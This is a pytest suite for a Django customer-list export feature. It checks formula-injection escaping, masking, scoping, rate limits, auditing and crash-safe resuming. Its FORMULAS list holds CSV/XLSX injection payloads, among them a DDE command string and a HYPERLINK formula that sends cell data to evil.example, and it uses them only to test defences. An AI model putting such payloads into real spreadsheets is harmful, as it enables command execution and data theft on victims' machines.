"""Lists out as files: whole, masked, safe, limited, resumed, theirs alone. R019, Y09; reliability rows 1, 7, 14, 80."""

from __future__ import annotations

import csv
import io
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
from datetime import timedelta
from pathlib import Path

import openpyxl
import pytest
from django.db import OperationalError, connection, transaction
from django.test import Client
from openpyxl.utils.escape import unescape

from cheban.core.errors import NotFound, NotPermitted, Refused
from cheban.core.models import AuditEntry
from cheban.customers.lists import SPEC
from cheban.customers.models import Customer
from cheban.lists.exporting import book, commands, limits, parts, queries, run
from cheban.lists.models import Export
from cheban.lists.spec import Out
from cheban.lists.state import Asked
from cheban.org import scope
from cheban.org.models import StaffRole
from cheban.org.roles import Role
from tests import given

BACKEND = "cheban.site.accounts.Backend"
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
NAMES = [
    *FORMULAS,
    "𬎆㛃",
    "阿卜杜拉·买买提",
    "张 & <b>李</b>",
    "https://example.com",
    "00123",
    "1e5",
    "_x0041_",
    " 空 格 ",
]


@pytest.fixture(autouse=True)
def data_folder(tmp_path, settings):
    settings.DATA_DIR = tmp_path
    return tmp_path


@pytest.fixture
def hostile(cast):
    for n, name in enumerate(NAMES):
        person = given.customer(cast.a, "张", phone=f"138{n:08d}", tags=["=1+1"], spent_fen=n * 12_345)
        Customer.objects.filter(id=person.id).update(name=name, last_visit_on=given.days(-n))
    return cast


def ask(cast, role=Role.STORE_MANAGER, **changes) -> Export:
    wanted = {"columns": [], "form": "xlsx", "purpose": "核对"} | changes
    asked = wanted.pop("asked", Asked())
    return commands.ask(SPEC, asked, by=cast.actor(role), **wanted)


def done(export: Export) -> Path:
    run.write(export.id)
    export.refresh_from_db()
    assert (export.state, export.problem) == ("done", "")
    return queries.file_of(export)


def table_of(path: Path) -> list[list]:
    """The rows below the headings, of every sheet."""
    if path.suffix == ".csv":
        return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))[2:]
    found = openpyxl.load_workbook(path)
    return [[c.value for c in row] for sheet in found for row in sheet.iter_rows(min_row=3)]


@pytest.mark.req("R019")
def test_hostile_cells_stay_text_in_a_sheet(hostile):
    path = done(ask(hostile))
    sheet = openpyxl.load_workbook(path).active
    assert all(cell.data_type != "f" and cell.hyperlink is None for row in sheet.iter_rows() for cell in row)
    assert {unescape(row[0]) for row in table_of(path)} == set(NAMES)


@pytest.mark.req("R019")
def test_hostile_cells_stay_text_in_csv(hostile):
    path = done(ask(hostile, form="csv"))
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = table_of(path)
    assert {row[0] for row in rows} == {("'" + n) if n in FORMULAS else n for n in NAMES}
    heads = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))[1]
    assert {row[heads.index("标签")] for row in rows} == {"'=1+1"}
    assert "12345.67" not in rows[0] and any("123.45" in row for row in rows)


@pytest.mark.skipif(not shutil.which("soffice"), reason="needs soffice; the sheet's XML is looked at in any case")
def test_libreoffice_reads_what_was_written_and_computes_nothing(hostile, tmp_path):
    path = done(ask(hostile))
    out = tmp_path / "converted"
    subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", "--convert-to",
         "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,true", "--outdir", out, path],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    [converted] = out.glob("*.csv")
    rows = list(csv.reader(io.StringIO(converted.read_text("utf-8"), newline="")))
    assert [r[0].strip() for r in rows[2:]] == [unescape(str(r[0])).strip() for r in table_of(path)]


def test_a_sheet_holds_no_formula_and_no_address_of_a_page(hostile):
    import zipfile

    with zipfile.ZipFile(done(ask(hostile))) as found:
        text = found.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in text and "<hyperlink" not in text and "externalLink" not in "".join(found.namelist())


@pytest.mark.req("R018", "R019")
def test_a_file_is_masked_like_the_screen_and_carries_who_when_and_what_for(hostile):
    path = done(ask(hostile, purpose="十一月 & 保养"))
    book = openpyxl.load_workbook(path)
    cells = [str(c.value) for row in book.active.iter_rows() for c in row]
    assert any("138****0003" in c for c in cells)
    assert not any(f"138{n:08d}" in c for c in cells for n in range(len(NAMES)))
    assert cells[0] == f"店长A 于 2026-11-23 09:00 导出 {len(NAMES)} 行，用途：十一月 & 保养，仅供内部使用"
    assert "十一月 && 保养" in (book.active.oddFooter.left.text or "")
    assert path.stat().st_mode & 0o777 == 0o600 and path.parent.stat().st_mode & 0o777 == 0o700


def test_a_file_holds_the_rows_of_the_list_in_its_order_with_its_columns(hostile):
    page = [c.name for c in Customer.objects.order_by("-spent_fen", "-id")]
    path = done(ask(hostile, asked=Asked({}, "spent"), columns=["spent", "no_such_column"], form="csv"))
    rows = table_of(path)
    assert [r[0].removeprefix("'") for r in rows] == page
    assert [len(r) for r in rows] == [4] * len(page)  # name, kind, refusals, spent


def test_rows_without_a_value_in_the_order_are_not_lost(hostile):
    Customer.objects.filter(name="00123").update(last_visit_on=None)
    Customer.objects.filter(name="1e5").update(last_visit_on=None)
    path = done(ask(hostile, asked=Asked({}, "visited"), form="csv"))
    assert sorted(r[0] for r in table_of(path)[-2:]) == ["00123", "1e5"]


@pytest.mark.parametrize("form", ["xlsx", "csv"])
@pytest.mark.parametrize("sort", ["newest", "visited", "spent"])
def test_many_parts_and_a_stop_anywhere_give_the_same_file(hostile, monkeypatch, form, sort):
    Customer.objects.filter(name__in=NAMES[:3]).update(last_visit_on=None)
    whole = table_of(done(ask(hostile, asked=Asked({}, sort), form=form)))
    monkeypatch.setattr(run, "PART_ROWS", 2)
    monkeypatch.setattr(book, "SHEET_ROWS", 8)
    export = ask(hostile, asked=Asked({}, sort), form=form)
    steps = iter(range(100))

    def goes_away(execute, sql, params, many, context):
        """The database is away whenever every other part is about to be counted."""
        if sql.startswith('UPDATE "lists_export"') and '"parts" =' in sql and next(steps) % 2:
            raise OperationalError("server closed the connection unexpectedly")
        return execute(sql, params, many, context)

    stops = 0
    for _ in range(40):
        try:
            with connection.execute_wrapper(goes_away):
                run.write(export.id)
            break
        except OperationalError:
            stops += 1
    assert stops >= 3
    export.refresh_from_db()
    assert (export.state, export.rows_done) == ("done", len(NAMES))
    assert table_of(queries.file_of(export)) == whole
    if form == "xlsx":
        assert len(openpyxl.load_workbook(queries.file_of(export)).sheetnames) == 4


@pytest.mark.req("R019")
def test_only_rows_of_the_scope_leave(cast):
    with scope.use([cast.a.id, cast.b.id]):
        given.customer(cast.a, "甲店客户")
        given.customer(cast.b, "乙店客户", phone="13900001234")
    scope.set_stores([cast.a.id])
    assert [r[0] for r in table_of(done(ask(cast, form="csv")))] == ["甲店客户"]
    both = Customer.objects.all()
    assert both.count() == 1


def test_ticked_rows_of_another_store_do_not_leave(cast):
    with scope.use([cast.a.id, cast.b.id]):
        own = given.customer(cast.a, "甲店客户")
        other = given.customer(cast.b, "乙店客户", phone="13900001234")
    scope.set_stores([cast.a.id])
    path = done(ask(cast, form="csv", chosen=[str(own.id), str(other.id)]))
    assert [r[0] for r in table_of(path)] == ["甲店客户"]


@pytest.mark.req("R019")
@pytest.mark.parametrize("change", ["role", "inactive", "another store"])
def test_a_right_withdrawn_between_click_and_work_stops_the_file(hostile, change):
    export = ask(hostile)
    manager = hostile.staff[Role.STORE_MANAGER]
    if change == "role":
        StaffRole.objects.filter(staff=manager).update(role=Role.CALLER)
    elif change == "inactive":
        type(manager).objects.filter(id=manager.id).update(is_active=False)
    else:
        StaffRole.objects.filter(staff=manager).update(store=hostile.b)
    run.write(export.id)
    export.refresh_from_db()
    assert export.state == "refused" and export.problem
    assert not queries.file_of(export).exists()


@pytest.mark.req("R019")
def test_a_right_withdrawn_while_parts_are_written_stops_the_next_part(
    hostile, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(run, "PART_ROWS", 4)
    export, real, written = ask(hostile), run._step, []

    def step(*args):
        real(*args)
        written.append(args)
        StaffRole.objects.filter(staff=hostile.staff[Role.STORE_MANAGER]).update(role=Role.AUDITOR)

    monkeypatch.setattr(run, "_step", step)
    with django_capture_on_commit_callbacks(execute=True):
        run.write(export.id)
    export.refresh_from_db()
    assert (export.state, len(written)) == ("refused", 1)
    assert not queries.folder(export.id).exists()


@pytest.mark.req("R019")
def test_those_who_may_not_export_are_refused_and_nothing_is_kept(hostile):
    for role in (Role.SERVICE_ADVISOR, Role.CALLER, Role.AUDITOR):
        with pytest.raises(NotPermitted):
            ask(hostile, role)
    assert not Export.objects.exists()


def test_more_rows_than_a_role_may_take_are_refused_with_what_to_do(hostile, monkeypatch):
    monkeypatch.setitem(limits.LIMITS, Role.STORE_MANAGER, limits.Limit(5, 12))
    with pytest.raises(commands.ExportRefused, match="筛选"):
        ask(hostile)
    assert not Export.objects.exists()


def test_a_list_that_grew_beyond_the_limit_meanwhile_is_not_written(hostile, monkeypatch):
    export = ask(hostile)
    monkeypatch.setitem(limits.LIMITS, Role.STORE_MANAGER, limits.Limit(5, 12))
    run.write(export.id)
    export.refresh_from_db()
    assert (export.state, queries.file_of(export).exists()) == ("refused", False)


def test_a_long_list_is_counted_whole_by_the_job_only(hostile, monkeypatch):
    monkeypatch.setattr(commands, "COUNT_CAP", 5)
    export = ask(hostile)
    assert AuditEntry.objects.get(action="customers.exported").facts["rows"] == ">5"
    done(export)
    assert (export.rows_total, export.rows_done) == (len(NAMES), len(NAMES))
    assert AuditEntry.objects.get(action="export.written").facts == {"list": "customers", "rows": len(NAMES)}


@pytest.mark.req("R019")
def test_each_export_is_audited_and_ten_in_an_hour_raise_an_alarm(hostile):
    for number in range(10):
        ask(hostile, purpose=f"第{number}次")
    entry = AuditEntry.objects.filter(action="customers.exported").first()
    assert entry.facts == {"rows": len(NAMES), "form": "xlsx"} and entry.reason == "第0次"
    assert AuditEntry.objects.filter(action="audit.alarmed", facts__what="customers.exported").count() == 1


def test_the_hours_number_holds_and_opens_again(hostile, clock):
    for _ in range(limits.LIMITS[Role.STORE_MANAGER].per_hour):
        ask(hostile)
    with pytest.raises(commands.TooOften, match="分钟"):
        ask(hostile)
    clock.set(clock.now + timedelta(minutes=61))
    ask(hostile)


@pytest.mark.req("R019")
def test_two_clicks_at_once_do_not_pass_the_hours_number(committed):  # the clock of threads is the real one
    with transaction.atomic():
        cast = given.cast()
        given.customer(cast.a, "张三")
        for _ in range(limits.LIMITS[Role.STORE_MANAGER].per_hour - 1):
            ask(cast)
    outcomes, ready = [], threading.Barrier(4)

    def click() -> None:
        try:
            ready.wait()
            with scope.use([cast.a.id]):
                ask(cast)
            outcomes.append("asked")
        except commands.TooOften:
            outcomes.append("refused")
        finally:
            connection.close()

    threads = [threading.Thread(target=click) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(outcomes) == ["asked", "refused", "refused", "refused"]


def test_a_cancelled_export_leaves_nothing_and_is_not_written(hostile, django_capture_on_commit_callbacks):
    export, by = ask(hostile), hostile.actor(Role.STORE_MANAGER)
    with django_capture_on_commit_callbacks(execute=True):
        commands.cancel(export.id, by=by)
    run.write(export.id)
    export.refresh_from_db()
    assert export.state == "cancelled" and not queries.folder(export.id).exists()
    with pytest.raises(Refused):
        commands.cancel(export.id, by=by)


def test_a_file_is_its_makers_alone_and_only_while_they_may(hostile):
    export = ask(hostile)
    path = done(export)
    address = f"/exports/{export.id}/file/"

    def get(role):
        client = Client()
        client.force_login(hostile.staff[role], backend=BACKEND)
        return client.get(address)

    answer = get(Role.STORE_MANAGER)
    assert b"".join(answer.streaming_content) == path.read_bytes()
    assert answer["Content-Disposition"].startswith("attachment")
    assert (answer["X-Content-Type-Options"], answer["Cache-Control"]) == ("nosniff", "no-store")
    assert AuditEntry.objects.filter(action="export.downloaded", subject=f"export:{export.id}").count() == 1
    assert get(Role.OPERATIONS).status_code == 404
    StaffRole.objects.filter(staff=hostile.staff[Role.STORE_MANAGER]).update(role=Role.AUDITOR)
    assert get(Role.STORE_MANAGER).status_code == 403
    with pytest.raises(NotFound):
        commands.cancel(export.id, by=hostile.actor(Role.OPERATIONS))


def test_files_go_after_a_week_and_forgotten_work_begins_again(hostile, clock, monkeypatch):
    old, stuck = ask(hostile), ask(hostile)
    path = done(old)
    stray = queries.folder("stray")
    stray.mkdir()
    begun = []
    monkeypatch.setattr(commands, "start", begun.append)
    clock.set(clock.now + timedelta(minutes=9))
    commands.tend()
    assert path.exists() and not begun and not stray.exists()
    clock.set(clock.now + timedelta(days=7))
    commands.tend()
    old.refresh_from_db()
    assert old.state == "expired" and not path.parent.exists()
    assert begun == [stuck.id]


CHILD = """
import django, sys, time
django.setup()
from cheban.lists.exporting import run
run.PART_ROWS = 100
real = run._step
def slow(*args):
    real(*args)
    time.sleep(0.05)
run._step = slow
run.write(sys.argv[1])
"""


@pytest.mark.req("R208")
@pytest.mark.parametrize("form", ["xlsx", "csv"])
def test_a_worker_killed_in_the_middle_loses_and_doubles_no_row(committed, clock, data_folder, form):
    with transaction.atomic():
        cast = given.cast()
        first = given.customer(cast.a, "张0")
        Customer.objects.bulk_create(
            (Customer(store=cast.a, name=f"张{n}", spent_fen=n % 50, name_full_pinyin="zhang") for n in range(1, 3000)),
            batch_size=1000,
        )
        export = ask(cast, asked=Asked({}, "spent"), form=form)
    with scope.use([cast.a.id]):
        wanted = [c.name for c in Customer.objects.order_by("-spent_fen", "-id")]
    assert len(wanted) == 3000 and first
    environment = os.environ | {"CHEBAN_DATA_DIR": str(data_folder), "CHEBAN_NOW": "2026-11-23T09:00:00+08:00"}
    environment["DJANGO_SETTINGS_MODULE"] = "cheban.site.settings"
    seen = []
    for least in (3, 9):
        child = subprocess.Popen([sys.executable, "-c", CHILD, str(export.id)], env=environment)
        until = time.monotonic() + 60
        while Export.objects.get(id=export.id).parts < least and time.monotonic() < until:
            time.sleep(0.02)
        os.kill(child.pid, signal.SIGKILL)
        child.wait()
        seen.append(Export.objects.get(id=export.id))
    assert [e.state for e in seen] == ["running"] * 2
    assert 3 <= seen[0].parts < seen[1].parts < 30 and seen[1].rows_done == 100 * seen[1].parts
    path = done(export)
    assert [row[0] for row in table_of(path)] == wanted


def test_a_part_lost_with_the_power_is_written_again(hostile, monkeypatch):
    monkeypatch.setattr(run, "PART_ROWS", 4)
    export = ask(hostile, form="csv")
    whole = sorted(c.name for c in Customer.objects.all())
    place = queries.folder(export.id)
    place.mkdir(parents=True)
    Export.objects.filter(id=export.id).update(parts=2, rows_done=8, place=f"~{export.id}", state="running")
    assert sorted(r[0].removeprefix("'") for r in table_of(done(export))) == whole


def test_every_column_of_a_declared_list_says_what_it_gives_to_a_file():
    from cheban.lists import spec

    assert [(s.code, c.code) for s in spec.declared().values() for c in s.columns if not c.out] == []


def test_days_that_excel_cannot_count_and_long_texts_stay_readable():
    from datetime import date

    outs = [Out("a", "a", "date"), Out("b", "b")]
    text = parts.sheet_part([[date(1899, 1, 1)], ["x" * 40_000]], outs, book.styles(), first=3).decode()
    assert "<t>1899-01-01</t>" in text and len(text) < 33_000
    cell = parts.sheet_part([[date(1900, 3, 1)], [""]], outs, {"date": 7}, first=3)
    assert cell == b'<row r="3"><c r="A3" s="7"><v>61</v></c></row>'


def test_the_page_of_exports_costs_the_same_queries_whatever_its_length(hostile, django_assert_max_num_queries):
    client = Client()
    client.force_login(hostile.staff[Role.STORE_MANAGER], backend=BACKEND)
    client.get("/exports/")
    for number in range(10):
        ask(hostile, purpose=f"第{number}次", asked=Asked({"kind": "person"}))
    with django_assert_max_num_queries(16):
        answer = client.get("/exports/")
    assert answer.content.decode().count("<tr id=") == 10 and "类型：个人" in answer.content.decode()


def test_asking_needs_a_purpose_and_says_what_goes_out(hostile):
    client = Client()
    client.force_login(hostile.staff[Role.STORE_MANAGER], backend=BACKEND)
    page = client.get("/exports/new/customers/?kind=person&sort=spent").content.decode()
    assert "类型：个人" in page and "累计消费（元）" in page and str(len(NAMES)) in page
    refused = client.post("/exports/new/customers/", {"query": "kind=person", "purpose": " ", "form": "csv"})
    assert refused.status_code == 422 and "用途" in refused.content.decode()
    assert (
        client.post("/exports/new/customers/", {"query": "kind=person", "purpose": "核对", "form": "csv"}).status_code
        == 302
    )
    export = Export.objects.get()
    assert (export.query, export.form, export.purpose, export.rows_total) == ("kind=person", "csv", "核对", len(NAMES))


def test_cells_of_a_sheet_have_the_format_of_their_kind(hostile):
    """An amount once looked like a moment: the formats of parts were numbered without the headings'."""
    sheet = openpyxl.load_workbook(done(ask(hostile, columns=["spent", "last_visit", "visits"]))).active
    assert [cell.number_format for cell in sheet[3]][-3:] == ["#,##0.00", "yyyy-mm-dd", "0"]
